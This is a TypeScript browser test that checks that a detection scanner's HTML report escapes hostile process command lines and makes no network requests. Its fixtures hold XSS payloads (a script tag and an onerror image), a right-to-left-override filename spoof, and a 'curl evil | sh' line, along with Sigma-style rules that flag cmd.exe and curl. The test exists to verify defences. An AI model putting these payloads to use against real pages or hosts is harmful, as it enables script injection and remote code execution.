import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, REPO } from '../helpers/cli.js';

/**
 * The HTML report in a real Chromium (Debian's `chromium`, driven by playwright-core): it loads
 * with no console error and no request beyond its own file, the filters work, and hostile
 * command lines (`<script>`, `onerror=`, bidi, ANSI) are shown as text and never run.
 */
const CHROMIUM = '/usr/bin/chromium';
const FLAGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
const dir = mkdtempSync(join(tmpdir(), 'sw-html-'));
const report = join(dir, 'report.html');
const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  'npm i \u202elmth.exe',
  '\u001b[31mred\u001b[0m && curl evil | sh',
];
let context: BrowserContext;
let page: Page;
const problems: string[] = [];
const requests: string[] = [];

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`this test needs ${CHROMIUM}: apt-get install chromium`);
  const rules = join(dir, 'rules');
  mkdirSync(rules);
  writeFileSync(join(rules, 'cmd.yml'), `title: Shell from an install
id: aaaaaaaa-0000-4000-8000-000000000001
level: high
logsource: {category: process_creation, product: windows}
detection: {sel: {Image|endswith: '\\\\cmd.exe'}, condition: sel}
`);
  writeFileSync(join(rules, 'curl.yml'), `title: curl piped to a shell
id: aaaaaaaa-0000-4000-8000-000000000002
level: critical
logsource: {category: process_creation, product: windows}
detection: {sel: {CommandLine|contains: 'curl'}, condition: sel}
`);
  const events = join(dir, 'events.ndjson');
  writeFileSync(events, HOSTILE.map((cmd, i) => JSON.stringify({ EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: i < 2 ? 'build-01' : 'dev-ws-7', UtcTime: `2026-11-27 0${i}:16:40.004`, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: cmd, ParentImage: 'C:\\Program Files\\nodejs\\node.exe', ParentCommandLine: 'node npm-cli.js install' })).join('\n') + '\n');
  await new Promise<void>((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, 'scan', events, '--rules', rules, '-q', '-o', `html:${report}`], { cwd: REPO, stdio: 'inherit' });
    child.on('close', (status) => (status === 1 ? resolve() : reject(new Error(`scan exited with ${status}`))));
  });
  context = await chromium.launchPersistentContext(join(dir, 'profile'), { executablePath: CHROMIUM, headless: true, args: FLAGS });
  page = await context.newPage();
  page.on('console', (m) => void (m.type() === 'error' && problems.push(m.text())));
  page.on('pageerror', (e) => void problems.push(e.message));
  page.on('request', (r) => void requests.push(r.url()));
  await page.goto(pathToFileURL(report).href);
}, 120_000);

afterAll(async () => context?.close());

const shown = () => page.locator('details.alert:visible').count();

describe('the HTML report in Chromium', () => {
  it('is one file that loads with no console error and asks for nothing else', async () => {
    expect(problems).toEqual([]);
    expect(requests).toEqual([pathToFileURL(report).href]);
    expect(readFileSync(report, 'utf8')).not.toMatch(/https?:\/\/(?!www\.w3\.org\/2000\/svg)/);
    expect(await page.locator('#overview').textContent()).toBe('5 alerts from 2 host(s), 2 rule(s)');
  });

  it('shows totals by level, rule and host, and a timeline', async () => {
    expect(await page.locator('#by-level tr').allTextContents()).toEqual(['levelalerts', 'high4', 'critical1']);
    expect(await page.locator('#by-host tr').allTextContents()).toEqual(['hostalerts', 'dev-ws-73', 'build-012']);
    expect(await page.locator('#timeline rect').count()).toBe(4);
  });

  it('filters by level, rule and host, from the selects and from the totals', async () => {
    expect(await shown()).toBe(5);
    await page.selectOption('#filter-level', 'critical');
    expect(await shown()).toBe(1);
    await page.selectOption('#filter-level', '');
    await page.selectOption('#filter-host', 'build-01');
    expect(await shown()).toBe(2);
    await page.selectOption('#filter-rule', 'aaaaaaaa-0000-4000-8000-000000000002');
    expect(await shown()).toBe(0);
    await page.selectOption('#filter-host', '');
    expect(await page.locator('#shown').textContent()).toBe('showing 1 of 5');
    await page.selectOption('#filter-rule', '');
    await page.locator('#by-host tr', { hasText: 'dev-ws-7' }).click();
    expect(await shown()).toBe(3);
    expect(await page.locator('#filter-host').inputValue()).toBe('dev-ws-7');
  });

  it('renders hostile command lines as inert, visible text, with the process tree', async () => {
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.locator('script').count()).toBe(2);
    await page.selectOption('#filter-host', '');
    const text = await page.locator('#alerts').textContent();
    expect(text).toContain('<script>window.__pwned = 1</script>');
    expect(text).toContain('<img src=x onerror="window.__pwned = 2">');
    expect(text).toContain('npm i \\u202elmth.exe');
    expect(text).toContain('\\u001b[31mred\\u001b[0m && curl evil | sh');
    expect(text).not.toMatch(/[\u001b\u202e]/);
    const first = page.locator('details.alert').first();
    await first.locator('summary').click();
    expect(await first.locator('ol.tree li').allTextContents()).toEqual(['this process: <script>window.__pwned = 1</script>', 'parent: node npm-cli.js install']);
  });
});
